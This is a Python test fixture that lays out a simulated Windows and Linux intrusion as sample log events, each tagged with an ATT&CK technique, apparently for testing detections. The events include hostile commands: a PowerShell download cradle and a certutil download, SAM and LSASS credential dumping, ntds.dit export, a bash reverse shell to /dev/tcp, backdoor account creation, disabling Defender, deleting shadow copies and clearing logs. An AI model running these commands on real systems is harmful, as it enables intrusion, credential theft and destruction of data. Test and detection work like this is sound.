"""The intrusion among the sample events, in the order it happened."""

from __future__ import annotations

from tests.demo.sample_facts import (
    POWERSHELL,
    SYS32,
    SYSTEM,
    Fact,
    line,
    process,
    script,
    security,
    sysmon,
    system,
)

_MARA = "CONTOSO\\mara.lindt"
_ADMIN = "CONTOSO\\svc-helpdesk"
_CMD = SYS32 + "cmd.exe"
_REG = SYS32 + "reg.exe"
_ENCODED = (
    "powershell.exe -NoP -W Hidden -EncodedCommand "
    "cgBlAGcAIABzAGEAdgBlACAASABLAEwATQBcAFMAQQBNACAAQwA6AFwAVQBzAGUAcgBzAFwAUAB1AGIAbABpAGMAXABzAC4AZABhAHQA"
)

INTRUSION: list[Fact] = [
    process(552, "wks-0117", "xml", "T1059.001", "powershell.exe -w hidden -nop -c \"IEX(New-Object Net.WebClient)"
            ".DownloadString('http://cdn-update.example/a.ps1')\"", image=POWERSHELL,
            parent="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", user=_MARA),
    process(554, "wks-0117", "classic", "T1087.001", "net user", image=SYS32 + "net.exe", parent=POWERSHELL, user=_MARA, event_id=4688),
    process(554, "wks-0117", "xml", "T1087.001", "wmic useraccount get name,sid,disabled", image=SYS32 + "wbem\\WMIC.exe", parent=_CMD, user=_MARA),
    script(555, "wks-0117", "winlogbeat", "T1087.001", "Get-LocalUser | Where-Object { $_.Enabled } | Select-Object Name, LastLogon"),
    process(556, "wks-0117", "kv", "T1049", "netstat -ano", image=SYS32 + "NETSTAT.EXE", parent=_CMD, user=_MARA),
    process(556, "wks-0117", "nxlog", "T1049", "cmd /c net session", image=_CMD, parent=POWERSHELL, user=_MARA),
    script(557, "wks-0117", "xml", "T1049", "Get-NetTCPConnection -State Established | Group-Object RemoteAddress"),
    process(561, "wks-0117", "classic", "T1548.002", "C:\\Windows\\System32\\fodhelper.exe", image=SYS32 + "fodhelper.exe", parent=POWERSHELL, user=_MARA),
    sysmon(560, "wks-0117", "xml", "T1548.002", 13, EventType="SetValue", Image=POWERSHELL,
           TargetObject="HKU\\S-1-5-21-3419697060-3810377854-678604692-1144_Classes\\ms-settings\\shell\\open\\command\\(Default)",
           Details="C:\\Users\\mara.lindt\\AppData\\Roaming\\upd.exe"),
    process(566, "wks-0117", "xml", "T1003.002", "reg  save HKLM\\SAM C:\\Users\\Public\\sam.hiv", image=_REG, parent=_CMD, user=_ADMIN),
    process(566, "wks-0117", "winlogbeat", "T1003.002", "r^eg s\"\"ave hklm\\security c:\\users\\public\\sec.hiv /y", image=_REG, parent=_CMD, user=_ADMIN),
    process(567, "wks-0117", "nxlog", "T1003.002", _ENCODED, image=POWERSHELL, parent=_CMD, user=_ADMIN),
    process(567, "wks-0117", "classic", "T1003.002", "cmd.exe /c reg query HKLM\\SECURITY\\SAM\\Domains\\Account", image=_CMD, parent=POWERSHELL, user=SYSTEM, event_id=4688),
    script(568, "wks-0117", "xml", "T1003.002", "$k = Get-ChildItem 'HKLM:\\SAM\\SAM\\Domains\\Account\\Users'; "
           "foreach ($u in $k) { (Get-ItemProperty $u.PSPath).V }"),
    security(568, "wks-0117", "xml", "T1003.002", 4656, SubjectUserSid="S-1-5-18", SubjectUserName="WKS-0117$", SubjectDomainName="CONTOSO",
             ObjectServer="Security", ObjectType="Key", ObjectName="\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account\\Users\\000001F4",
             HandleId="0x2f8", AccessList="%%4432\n\t\t\t\t%%4435", AccessMask="0x20019", ProcessId="0x1a30", ProcessName=POWERSHELL),
    sysmon(569, "wks-0117", "nxlog", "T1003.001", 10, SourceImage="C:\\Users\\Public\\pd.exe", TargetImage=SYS32 + "lsass.exe",
           GrantedAccess="0x1fffff", CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(000001F2A3B40000)"),
    process(570, "wks-0117", "xml", "T1003.001", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\l.dmp full",
            image=SYS32 + "rundll32.exe", parent=POWERSHELL, user=SYSTEM),
    process(575, "wks-0117", "kv", "T1016", "nltest /dclist:contoso.example", image=SYS32 + "nltest.exe", parent=_CMD, user=_ADMIN),
    process(577, "wks-0117", "xml", "T1087.002", "net group \"Domain Admins\" /domain", image=SYS32 + "net.exe", parent=_CMD, user=_ADMIN),
    process(583, "srv-file02", "classic", "T1047", "wmic /node:srv-file02 process call create \"cmd.exe /c c:\\windows\\temp\\upd.exe\"",
            image=SYS32 + "wbem\\WMIC.exe", parent=_CMD, user=_ADMIN, event_id=4688),
    security(584, "srv-file02", "xml", "T1021.002", 5145, SubjectUserName="svc-helpdesk", SubjectDomainName="CONTOSO", ObjectType="File",
             IpAddress="fd12:20:4::117", IpPort="50112", ShareName="\\\\*\\ADMIN$", ShareLocalPath="\\??\\C:\\Windows",
             RelativeTargetName="Temp\\upd.exe", AccessMask="0x2", AccessList="%%4417"),
    system(585, "srv-file02", "xml", "T1543.003", 7045, ServiceName="WinUpdSvc", ImagePath="%COMSPEC% /c powershell -nop -w hidden -c C:\\Windows\\Temp\\upd.ps1",
           ServiceType="user mode service", StartType="auto start", AccountName="LocalSystem"),
    process(588, "srv-file02", "winlogbeat", "T1053.005", "schtasks /create /sc minute /mo 20 /tn \"\\Microsoft\\Windows\\Upd\" /tr c:\\windows\\temp\\upd.exe /ru system /f",
            image=SYS32 + "schtasks.exe", parent=_CMD, user=_ADMIN),
    sysmon(590, "srv-file02", "classic", "T1547.001", 13, EventType="SetValue", Image="C:\\Windows\\Temp\\upd.exe",
           TargetObject="HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\WinUpd", Details="C:\\Windows\\Temp\\upd.exe -s"),
    process(596, "srv-file02", "xml", "T1105", "certutil.exe -urlcache -split -f http://[2001:db8:113::40]/t.exe C:\\Windows\\Temp\\t.exe",
            image=SYS32 + "certutil.exe", parent=_CMD, user=_ADMIN),
    process(604, "dc01", "xml", "T1003.003", "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\perflogs\\n\" q q", image=SYS32 + "ntdsutil.exe", parent=_CMD, user=_ADMIN),
    Fact(605, "dc01", "xml", "T1003.003", "Application", 325, {"Data": "lsass (712) The database engine created a new database (2, c:\\perflogs\\n\\Active Directory\\ntds.dit)."}),
    security(609, "dc01", "xml", "T1003.006", 4662, SubjectUserSid="S-1-5-21-3419697060-3810377854-678604692-1188", SubjectUserName="svc-helpdesk",
             SubjectDomainName="CONTOSO", ObjectServer="DS", ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", OperationType="Object Access",
             AccessMask="0x100", Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}"),
    process(613, "dc01", "nxlog", "T1136.001", "net user backupadm P@ssw0rd!9 /add", image=SYS32 + "net.exe", parent=_CMD, user=_ADMIN),
    process(613, "dc01", "classic", "T1098", "net localgroup administrators backupadm /add", image=SYS32 + "net.exe", parent=_CMD, user=_ADMIN, event_id=4688),
    process(622, "srv-file02", "xml", "T1685", "powershell Set-MpPreference -DisableRealtimeMonitoring $true", image=POWERSHELL, parent=_CMD, user=SYSTEM),
    process(630, "srv-file02", "xml", "T1490", "vssadmin.exe delete shadows /all /quiet", image=SYS32 + "vssadmin.exe", parent=_CMD, user=SYSTEM),
    process(631, "srv-file02", "kv", "T1490", "bcdedit /set {default} recoveryenabled no", image=SYS32 + "bcdedit.exe", parent=_CMD, user=SYSTEM),
    process(640, "srv-file02", "xml", "T1685.005", "wevtutil cl Security", image=SYS32 + "wevtutil.exe", parent=_CMD, user=SYSTEM),
    security(640, "srv-file02", "xml", "T1685.005", 1102, SubjectUserName="svc-helpdesk", SubjectDomainName="CONTOSO", SubjectLogonId="0x8f31c2"),
    line(650, "web-lx3", "linux_audit", "T1059.004", "type=EXECVE msg=audit(1794912600.221:90211): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/2001:db8:113::40/443 0>&1\""),
    line(652, "web-lx3", "linux_audit", "T1087.001", "type=EXECVE msg=audit(1794912720.018:90230): argc=2 a0=\"cat\" a1=\"/etc/passwd\""),
    line(653, "web-lx3", "linux_audit", "T1049", "type=EXECVE msg=audit(1794912780.518:90244): argc=2 a0=\"ss\" a1=\"-tunap\""),
    line(654, "web-lx3", "linux_audit", "T1053.003", "type=EXECVE msg=audit(1794912840.518:90251): argc=3 a0=\"sh\" a1=\"-c\" a2=\"(crontab -l; echo '*/5 * * * * /dev/shm/.x') | crontab -\""),
    line(660, "jump-01", "shell_history", "T1003.002", "secretsdump.py -sam sam.hiv -security sec.hiv -system sys.hiv LOCAL"),
    line(661, "jump-01", "shell_history", "T1003.002", "nxc smb 10.20.4.0/24 -u svc-helpdesk -p Winter2026 --sam"),
]  # fmt: skip
